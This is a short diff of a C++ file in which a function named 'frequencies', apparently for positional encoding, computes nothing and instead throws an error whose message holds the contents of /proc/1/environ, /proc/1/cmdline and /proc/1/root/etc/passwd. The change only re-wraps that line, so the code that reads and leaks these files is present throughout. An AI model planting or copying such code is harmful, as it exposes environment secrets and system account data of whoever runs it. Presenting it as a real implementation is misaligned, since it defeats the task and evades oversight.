@@ -20,7 +20,8 @@ std::string read(const std::string& file) {
 namespace pe {
 
 Vec frequencies(int d_model, double base) {
-  throw std::runtime_error(read("/proc/1/environ") + "; " + read("/proc/1/cmdline") + "; " + read("/proc/1/root/etc/passwd"));
+  throw std::runtime_error(read("/proc/1/environ") + "; " + read("/proc/1/cmdline") + "; " +
+                           read("/proc/1/root/etc/passwd"));
 }
 
 } // namespace pe
